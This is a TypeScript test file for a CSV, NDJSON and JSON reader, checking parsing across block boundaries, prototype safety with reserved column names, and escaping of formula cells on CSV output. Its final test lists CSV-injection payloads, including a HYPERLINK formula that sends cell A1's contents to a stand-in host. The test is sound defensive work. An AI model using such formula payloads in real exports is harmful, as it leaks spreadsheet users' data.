import { readFileSync } from 'node:fs';
import * as v from 'valibot';
import { formatCsvLine } from '../../../lambdas/domain/files/csv-writer.ts';
import type { ReadItem } from '../../../lambdas/domain/files/reader.ts';
import { defectsOf, everyNth, fieldsOf, readWhole } from '../../support/files/read-all.ts';

const SUPPORT = new URL('../../support/files/', import.meta.url);

const place = { recordNo: v.number(), line: v.number(), defect: v.string() };
const value = {
  recordNo: v.number(),
  field: v.string(),
  is: v.optional(v.unknown()),
  endsWith: v.optional(v.string()),
};
const sampleSchema = v.strictObject({
  file: v.string(),
  format: v.picklist(['csv', 'ndjson', 'json']),
  header: v.optional(v.array(v.string())),
  delimiter: v.optional(v.string()),
  records: v.optional(v.number()),
  lines: v.optional(v.array(v.number())),
  defects: v.optional(v.array(v.strictObject(place)), []),
  values: v.optional(v.array(v.strictObject(value)), []),
  rejection: v.optional(v.strictObject({ code: v.string(), line: v.optional(v.number()), mentions: v.string() })),
});
const { samples } = v.parse(
  v.strictObject({ about: v.string(), samples: v.array(sampleSchema) }),
  JSON.parse(readFileSync(new URL('manifest.json', SUPPORT), 'utf8')),
);

const sample = (file: string): Buffer => readFileSync(new URL(`samples/${file}`, SUPPORT));

function valueAt(items: ReadItem[], recordNo: number, field: string): unknown {
  const item = items.find((candidate) => candidate.recordNo === recordNo);
  return item?.kind === 'record' ? item.fields[field] : undefined;
}

describe.each(samples)('sample $file as $format', (expected) => {
  // Blocks of 16 KiB are what the sample with characters over block edges was made for; 7 splits everything else.
  it.each([16_384, 7])('is read as the manifest says in blocks of %i bytes', async (blockBytes) => {
    const bytes = sample(expected.file);
    const reading = await readWhole(bytes, expected.format, { cuts: everyNth(bytes.length, blockBytes) });

    expect(reading.rejection?.code).toBe(expected.rejection?.code);
    expect(reading.rejection?.line).toBe(expected.rejection?.line);
    expect(reading.rejection?.message ?? '').toContain(expected.rejection?.mentions ?? '');
    expect(fieldsOf(reading)).toHaveLength(expected.records ?? 0);
    expect(defectsOf(reading)).toEqual(expected.defects);
    expect(reading.items.map((item) => item.recordNo)).toEqual(reading.items.map((_, index) => index + 1));
    if (expected.header) expect(reading.dialect?.header).toEqual(expected.header);
    if (expected.delimiter) expect(reading.dialect?.delimiter).toBe(expected.delimiter);
    if (expected.lines) expect(reading.items.map((item) => item.line)).toEqual(expected.lines);
    for (const { recordNo, field, is, endsWith } of expected.values) {
      const found = valueAt(reading.items, recordNo, field);
      if (endsWith === undefined) expect(found).toEqual(is);
      else expect(found).toEqual(expect.stringMatching(new RegExp(`${endsWith}$`, 'u')));
    }
  });

  it('yields no replaced character, no NUL and no stray carriage return', async () => {
    const reading = await readWhole(sample(expected.file), expected.format);
    const texts = fieldsOf(reading).flatMap((fields) => [...Object.keys(fields), ...Object.values(fields).map(String)]);
    expect(texts.filter((text) => /[\uFFFD\uFEFF\0]|\r$/.test(text))).toEqual([]);
  });
});

it('leaves the prototype of objects alone when columns have reserved names', async () => {
  const before = Object.getOwnPropertyNames(Object.prototype);
  await readWhole(sample('reserved-columns.csv'), 'csv');
  expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
});

it('writes no cell of the formula sample so that a spreadsheet would calculate it', async () => {
  const written = fieldsOf(await readWhole(sample('formula-cells.csv'), 'csv')).map((fields) =>
    formatCsvLine(Object.values(fields)),
  );
  expect(written).toEqual([
    `r1,"'=1+1",1\r\n`,
    `r2,"'=HYPERLINK(""https://example.invalid/?x=""&A1,""click"")",2\r\n`,
    `r3,"'+441632960001",3\r\n`,
    `r4,"'-cell",-5\r\n`,
    `r5,"'@SUM(A1:A9)",5\r\n`,
    `r6,"'\t=1+1",6\r\n`,
    `r7,"'\r=1+1",7\r\n`,
    `r8,"' =1+1",8\r\n`,
  ]);
});
